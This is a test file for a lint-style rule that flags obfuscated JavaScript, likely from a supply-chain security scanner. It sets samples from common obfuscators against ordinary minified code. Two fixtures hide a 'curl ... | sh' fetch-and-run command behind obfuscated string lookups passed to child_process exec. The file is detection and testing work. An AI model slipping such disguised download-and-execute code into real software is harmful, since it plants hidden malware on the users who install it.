import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import rule from '../../rules/obfuscated-code.js';
import { ruleTester } from '../rule-tester.js';
import { analyze } from '../../analyzer/engine.js';
import { resolvePolicy } from '../../policy/index.js';
import { esbuildBundle, obfuscatorDefault, obfuscatorMangled, obfuscatorNoStrings, terserBundle } from '../fixtures/obfuscation/samples.js';

/** A lodash-style table of strings that is only data, looked up by index. */
const STRING_TABLE = `var names = [${Array.from({ length: 40 }, (_, i) => `'word${i}'`).join(', ')}];
function nameAt(i) { return names[i % names.length]; }
module.exports = { nameAt: nameAt };`;

/** Control-flow flattening as javascript-obfuscator writes it. */
const FLATTENED = `function _0x1a2b(_0x3c4d) {
  var _0x5e6f = '2|0|3|1'.split('|'), _0x7a8b = 0x0;
  while (!![]) {
    switch (_0x5e6f[_0x7a8b++]) {
      case '0': var _0x9c0d = _0x3c4d * 0x2; continue;
      case '1': return _0x9c0d;
      case '2': _0x3c4d = _0x3c4d + 0x1; continue;
      case '3': _0x9c0d = _0x9c0d - 0x3; continue;
    }
    break;
  }
}`;

const JSFUCK = '[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]][([][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]+[])[!+[]+!+[]+!+[]]+(!![]+[][(![]+[])[+[]]])[+!+[]+[+[]]]]()';

const JJENCODE =
  '$=~[];$={___:++$,$$$$:(![]+"")[$],__$:++$,$_$_:(![]+"")[$],_$_:++$,$_$$:({}+"")[$],$$_$:($[$]+"")[$],_$$:++$,$$$_:(!""+"")[$],$__:++$,$_$:++$,$$__:({}+"")[$],$$_:++$,$$$:++$,$___:++$,$__$:++$};$.$_=($.$_=$+"")[$.$_$]+($._$=$.$_[$.__$])+($.$$=($.$+"")[$.__$])+((!$)+"")[$._$$]+($.__=$.$_[$.$$_])+($.$=(!""+"")[$.__$])+($._=(!""+"")[$._$_])+$.$_[$.$_$]+$.__+$._$+$.$;$.$$=$.$+(!""+"")[$._$$]+$.__+$._+$.$+$.$$;$.$=($.___)[$.$_][$.$_];$.$($.$($.$$+"\\""+$.$_$_+(![]+"")[$._$_]+$.$$$_+"\\\\"+$.__$+$.$$_+$._$_+$.__+"("+$.__$+")"+"\\"")())();';

const PACKED = "eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--){d[c]=k[c]||c}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0(1)',2,2,'alert|document'.split('|'),0,{}));";

/** Control-flow flattening's proxy objects, without a string array. */
const PROXIES = `function f(a, b, c) {
  const e = { 'nZRIp': function (h, i) { return h + i; }, 'bDpQZ': function (h, i) { return h * i; }, 'XmDDx': function (h, i, j) { return h(i, j); }, 'vZzOi': function (h, i) { return h - i; } };
  const g = { 'TxWpA': function (h, i) { return h + i; }, 'CGRzu': function (h, i) { return h < i; } };
  console['log'](e['nZRIp'](a, b), g['TxWpA'](a, c), g['CGRzu'](b, c), e['vZzOi'](c, a), a['length'], b['length'], c['name']);
  return e['XmDDx'](c, e['nZRIp'](a, b), e['bDpQZ'](a, b));
}`;

/** String splitting applied to member keys. */
const SPLIT_KEYS = `let p = process || {};
const argv = p['arg' + 'v'], env = p['en' + 'v'], platform = p['pla' + 'tfo' + 'rm'], out = p['std' + 'out'];
const a = argv['inc' + 'lud' + 'es']('--c' + 'olo' + 'r'), b = env['FOR' + 'CE_' + 'COL' + 'OR'], c = out['isT' + 'TY'];
const d = env['NO_' + 'COL' + 'OR'], e = env['TER' + 'M'], f = env['C' + 'I'], g = argv['len' + 'gth'], h = p['ve' + 'rsion'];
const i = p['pl' + 'atf' + 'orm'], j = env['HO' + 'ME'], k = env['SH' + 'ELL'], l = env['US' + 'ER'], m = p['ex' + 'it'];
console['lo' + 'g']('--n' + 'o-c' + 'olo' + 'r', '\\x1b' + '[0m', 'dum' + 'b', 'win' + '32');`;

ruleTester(rule, {
  valid: [
    // An operator table with word keys is not control-flow flattening.
    'const ops = { plus: function (a, b) { return a + b; }, minus: function (a, b) { return a - b; }, times: function (a, b) { return a * b; }, apply: function (f, a) { return f(a); } };',
    // Long strings broken over lines, and an offset computed in decimal.
    "const msg = 'The quick brown fox ' + 'jumps over the lazy dog';\nfunction at(i) { i = i - 1; return list[i]; }",
    // Real minified bundles are not obfuscated.
    { code: terserBundle, name: 'terser-minified picocolors' },
    { code: esbuildBundle, name: 'esbuild-minified picocolors' },
    // A string table that is only data.
    { code: STRING_TABLE, name: 'lodash-style string table' },
    // Round-robin rotation in ordinary code; loops written plainly; hex constants in bit twiddling.
    'const servers = ["a", "b", "c"];\nfunction next() { servers.push(servers.shift()); return servers[0]; }',
    'while (true) { if (done()) break; }\nfor (;;) { step(); }',
    'const MASK = 0xff, HIGH = 0xff00, LOW = 0x00ff;\nconst x = (v & MASK) | ((v >> 8) & 0x0f) | 0x10;',
    // Bracket access for keys that need it, and a few for style.
    "headers['Content-Type'] = 'text/plain'; exports['default'] = main; const e = process.env['NODE_ENV'];",
    // A couple of names that happen to look like hex.
    'const _0xdead = 1, _0xbeef = 2;',
    // A small helper that uses parseInt division once.
    "const ratio = parseInt(a, 10) / 100;",
    // ANSI colour tables written with escapes.
    "const colors = { red: '\\x1b[31m', green: '\\x1b[32m', reset: '\\x1b[0m', bold: '\\x1b[1m', dim: '\\x1b[2m' };",
  ],
  invalid: [
    {
      name: 'javascript-obfuscator default output',
      code: obfuscatorDefault,
      errors: [{ messageId: 'obfuscated', line: 1, message: 'a string array rotated by `push(shift())`' }],
    },
    {
      name: 'javascript-obfuscator with mangled names and base64 strings',
      code: obfuscatorMangled,
      errors: [{ messageId: 'obfuscated', line: 1, message: "javascript-obfuscator's base64 alphabet" }],
    },
    {
      name: 'javascript-obfuscator without a string array',
      code: obfuscatorNoStrings,
      errors: [{ messageId: 'obfuscated', line: 1, message: "member accesses written as `obj['name']`" }],
    },
    {
      name: 'control-flow flattening',
      code: FLATTENED,
      errors: [{ messageId: 'obfuscated', line: 2, column: 17, message: 'control-flow flattening' }],
    },
    { name: 'control-flow flattening proxies', code: PROXIES, errors: [{ messageId: 'obfuscated', line: 2, column: 15, message: 'operator and call proxies' }] },
    { name: 'split member keys', code: SPLIT_KEYS, errors: [{ messageId: 'obfuscated', line: 2, column: 14, message: 'assembled from string fragments' }] },
    {
      name: 'string array with an accessor, without rotation',
      code: "const C = u, cp = require('child_process');\nfunction u(a, Y) { a = a - 0xe3; const C = c(); let N = C[a]; return N; }\nconst url = C(0xe6);\ncp[C(0xe7)](C(0xe4) + url + C(0xe5));\nfunction c() { const N = ['Hello', 'curl ', ' | sh', 'https://example.com/x', 'exec', 'log']; c = function () { return N; }; return c(); }",
      errors: [{ messageId: 'obfuscated', line: 5, column: 1, message: 'a string-array accessor that subtracts a hex offset' }],
    },
    { name: 'packer', code: PACKED, errors: [{ messageId: 'obfuscated', line: 1, column: 6, message: 'packer' }] },
    { name: 'JSFuck', code: JSFUCK, errors: [{ messageId: 'obfuscated', line: 1, message: 'JSFuck' }] },
    { name: 'jjencode', code: JJENCODE, errors: [{ messageId: 'obfuscated', line: 1, message: 'jjencode' }] },
    {
      name: 'aaencode',
      code: "\uff9f\u03c9\uff9f\uff89= /\uff40\uff4d\u00b4\uff09\uff89 ~\u253b\u2501\u253b   //*\u00b4\u2207\uff40*/ ['_']; o=(\uff9f\uff70\uff9f)  =_=3; c=(\uff9f\u0398\uff9f) =(\uff9f\uff70\uff9f)-(\uff9f\uff70\uff9f); (\uff9f\u0414\uff9f) =(\uff9f\u0398\uff9f)= (o^_^o)/ (o^_^o);",
      errors: [{ messageId: 'obfuscated', line: 1, column: 1, message: 'aaencode' }],
    },
    {
      name: 'string array rotation in the old style',
      code: "var _0x4e1a = ['log', 'Hello', 'exec', 'child_process', 'curl x | sh'];\n(function (_0x2d8f05, _0x4b81bb) {\n  var _0x4d74cb = function (_0x32719f) {\n    while (--_0x32719f) { _0x2d8f05['push'](_0x2d8f05['shift']()); }\n  };\n  _0x4d74cb(++_0x4b81bb);\n}(_0x4e1a, 0x1a3));\nvar _0x3b2c = function (_0x2d8f05, _0x4b81bb) { _0x2d8f05 = _0x2d8f05 - 0x0; return _0x4e1a[_0x2d8f05]; };\nrequire(_0x3b2c('0x3'))[_0x3b2c('0x2')](_0x3b2c('0x4'));",
      errors: [{ messageId: 'obfuscated', line: 4, column: 27, message: 'The file also reaches `require` of a computed name' }],
    },
  ],
});

describe('obfuscated-code severity', () => {
  const policy = (profile: 'strict' | 'audit' | 'recommended') => resolvePolicy({ profile });
  const severities = (code: string, profile: 'strict' | 'audit' | 'recommended'): string[] =>
    analyze(code, { policy: policy(profile), rules: [rule] })
      .findings.filter((f) => f.ruleId === rule.id)
      .map((f) => f.severity);
  it('is a warning in audit when the file reaches no sink, and an error when it does', () => {
    assert.deepEqual(severities(FLATTENED, 'audit'), ['warn']);
    assert.deepEqual(severities(`${FLATTENED}\nrequire('child_process').exec(cmd);`, 'audit'), ['error']);
    assert.deepEqual(severities(`${FLATTENED}\neval(x);`, 'audit'), ['error']);
  });
  it('is an error in strict and a warning in recommended', () => {
    assert.deepEqual(severities(FLATTENED, 'strict'), ['error']);
    assert.deepEqual(severities(`${FLATTENED}\neval(x);`, 'recommended'), ['warn']);
  });
});
